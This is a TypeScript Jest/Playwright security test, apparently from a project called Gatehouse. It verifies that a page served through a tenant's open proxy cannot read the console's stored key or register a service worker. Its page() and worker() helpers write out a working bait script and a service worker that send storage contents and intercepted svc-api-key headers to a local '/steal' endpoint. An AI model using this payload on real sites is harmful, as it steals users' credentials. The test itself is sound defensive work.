import { createServer, Server } from 'node:http';
import { AddressInfo } from 'node:net';
import { Page } from 'playwright-core';
import { CreatedTenant } from '@gatehouse/domain';
import { postAs, ServiceProcess } from '@gatehouse/test-support/service-process';
import { startTestApp } from '@gatehouse/test-support/test-app';
import { ConsoleBrowser, signIn, startConsoleService } from './browser';

// Functions passed to page.evaluate run in the browser; this program has no DOM types.
declare const window: any;
declare const navigator: any;

jest.setTimeout(240_000);

/**
 * What a hostile tenant's destination serves through its open proxy (issue 22): a page whose script reads the
 * console's key from storage and registers a service worker for scope `/` (the worker script's response allowing it),
 * and reports whatever it got to the attacker (this same server, /steal).
 */
function page(stealUrl: string): string {
  return `<!doctype html><title>bait</title><script>
    document.title = 'ran';
    const loot = { session: JSON.stringify(window.sessionStorage), local: JSON.stringify(window.localStorage) };
    fetch('${stealUrl}?what=storage&d=' + encodeURIComponent(JSON.stringify(loot)), { mode: 'no-cors' });
    navigator.serviceWorker.register('sw.js' + location.search, { scope: '/' })
      .then(() => fetch('${stealUrl}?what=worker', { mode: 'no-cors' }));
  </script>`;
}

/** The worker: every request of the origin it controls (a later sign-in's SVC-API-KEY included) copied to /steal. */
function worker(stealUrl: string): string {
  return `self.addEventListener('fetch', (event) => {
    const key = event.request.headers.get('svc-api-key');
    if (key) fetch('${stealUrl}?what=key&d=' + encodeURIComponent(key), { mode: 'no-cors' });
  });`;
}

/** Issue 22 in Chromium: a page served through a tenant's proxy gets neither the console's key nor a service worker. */
describe("the console's origin against a hostile proxy destination (in chromium)", () => {
  let service: ServiceProcess;
  let destination: Server;
  let stealUrl: string;
  const stolen: string[] = [];
  let browser: ConsoleBrowser;
  let victim: CreatedTenant;
  let attackerProxyKey: string;

  beforeAll(async () => {
    destination = createServer((req, res) => {
      const path = req.url!.split('?')[0]!;
      if (path === '/steal') {
        stolen.push(req.url!);
        res.writeHead(204, { 'access-control-allow-origin': '*' }).end();
      } else if (path.endsWith('/sw.js')) {
        res.writeHead(200, { 'content-type': 'text/javascript', 'service-worker-allowed': '/' }).end(worker(stealUrl));
      } else {
        res.writeHead(200, { 'content-type': 'text/html', 'service-worker-allowed': '/' }).end(page(stealUrl));
      }
    });
    await new Promise<void>((resolve) => destination.listen(0, '127.0.0.1', resolve));
    const origin = `http://127.0.0.1:${(destination.address() as AddressInfo).port}`;
    stealUrl = `${origin}/steal`;
    const admin = await startTestApp();
    let attacker: CreatedTenant;
    try {
      victim = await admin.tenant();
      attacker = await admin.tenant();
    } finally {
      await admin.close();
    }
    service = await startConsoleService({ PROXY_ALLOW_HTTP: 'true', PROXY_ALLOWED_PRIVATE_CIDRS: '127.0.0.0/8' });
    // The attacker's open proxy: no key needed but its own, which it hands out in a link.
    const created = await postAs(service, attacker.key, '/proxies', { name: 'bait', destination_url: `${origin}/bait`, require_auth: false });
    expect(created.status).toBe(201);
    attackerProxyKey = created.body.key;
    browser = await ConsoleBrowser.launch(service.consoleUrl!);
  });
  afterAll(async () => {
    await browser?.close();
    await service?.stop();
    await new Promise((resolve) => destination?.close(resolve));
  });

  async function signedInConsole(): Promise<Page> {
    const console = await browser.newPage('/console/');
    await signIn(console, victim.key);
    await console.getByText('Signed in as').waitFor();
    return console;
  }

  it('is on an origin of its own: the console holds the key, the API origin serves the proxy, the console origin never does', async () => {
    expect(new URL(service.consoleUrl!).origin).not.toBe(new URL(service.baseUrl).origin);
    const console = await signedInConsole();
    // The key is there to be stolen: the console keeps it in its origin's sessionStorage.
    expect(await console.evaluate(() => window.sessionStorage.getItem('gatehouse.console.key'))).toBe(victim.key);
    // The attacker's link on the console's origin: no proxy there, and nothing that runs.
    const res = await fetch(`${service.consoleUrl}/proxy/page?svc-proxy-key=${attackerProxyKey}`);
    expect(res.status).toBe(404);
    expect(res.headers.get('content-type')).toMatch(/^application\/problem\+json/);
    expect(res.headers.get('content-security-policy')).toMatch(/^sandbox;/);
    await console.close();
  });

  it("a page served through a tenant's proxy reads no key and registers no service worker, and the console still works", async () => {
    const console = await signedInConsole();

    // The victim follows the attacker's link, in the same browser.
    const bait = await browser.context.newPage();
    const response = await bait.goto(`${service.baseUrl}/proxy/page?svc-proxy-key=${attackerProxyKey}`);
    expect(response!.status()).toBe(200);
    expect(response!.headers()['service-worker-allowed']).toBeUndefined();
    // Its script never ran (the sandbox): the title is the page's own.
    expect(await bait.title()).toBe('bait');

    // Were a script of that page to run (DevTools evaluates it as the page would), the storage it sees is not the
    // console's (an opaque origin: none at all), and no worker of the origin's, for `/` or even `/proxy/`, is taken.
    const attempt = await bait.evaluate(async (search: string) => {
      const outcome = (run: () => unknown) => {
        try {
          return `read ${JSON.stringify(run())}`;
        } catch (error) {
          return `refused: ${(error as Error).name}`;
        }
      };
      const register = async (scope: string) => {
        try {
          await navigator.serviceWorker.register(`sw.js${search}`, { scope });
          return 'registered';
        } catch (error) {
          return `refused: ${(error as Error).name}`;
        }
      };
      return {
        session: outcome(() => window.sessionStorage.getItem('gatehouse.console.key')),
        local: outcome(() => Object.keys(window.localStorage)),
        workerRoot: await register('/'),
        workerProxy: await register('/proxy/'),
      };
    }, `?svc-proxy-key=${attackerProxyKey}`);
    expect(attempt.session).toMatch(/^refused: SecurityError$/);
    expect(attempt.local).toMatch(/^refused: SecurityError$/);
    expect(attempt.workerRoot).toMatch(/^refused: /);
    expect(attempt.workerProxy).toMatch(/^refused: /);
    await bait.close();

    // A later sign-in, in a new tab as after a restart of the console: nothing intercepts it.
    await console.close();
    const later = await signedInConsole();
    expect(browser.context.serviceWorkers()).toEqual([]);
    const registrations = await later.evaluate(async () => (await navigator.serviceWorker.getRegistrations()).length);
    expect(registrations).toBe(0);
    // Give anything that might have been sent a moment to arrive, then check that nothing was.
    await new Promise((resolve) => setTimeout(resolve, 500));
    expect(stolen).toEqual([]);
    await later.close();
  });

  it("wrote no browser console errors in the console's tabs", () => {
    expect(browser.errors).toEqual([]);
  });
});
